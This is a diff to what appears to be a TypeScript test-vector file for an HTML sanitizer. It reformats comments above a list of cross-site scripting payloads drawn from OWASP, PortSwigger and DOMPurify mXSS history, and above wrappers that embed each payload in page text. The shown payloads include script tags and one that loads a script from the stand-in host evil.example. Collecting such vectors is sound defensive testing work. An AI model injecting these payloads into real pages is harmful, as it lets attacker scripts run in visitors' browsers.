@@ -1,6 +1,8 @@
 const ID = "0123456789abcdefghij";
 
-/** Ways that are known to smuggle a script into a page: OWASP's filter evasion cheat sheet, PortSwigger's, mXSS of DOMPurify's history. */
+/**
+ * Known ways to smuggle a script into a page: OWASP's filter evasion cheat sheet, PortSwigger's, and mXSS of DOMPurify's history.
+ */
 export const VECTORS: readonly string[] = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
@@ -139,7 +141,7 @@ export const VECTORS: readonly string[] = [
   "\ud800<script>alert(1)</script>\udfff",
 ];
 
-/** What stands around it where it is found in the wild: within words, lists, half a tag or a comment. */
+/** Typical surroundings of an attack: within words, in lists, in half a tag or a comment. */
 export const WRAPPERS: readonly ((vector: string) => string)[] = [
   (vector) => vector,
   (vector) => `<p>قبل ${vector} بعد</p>`,
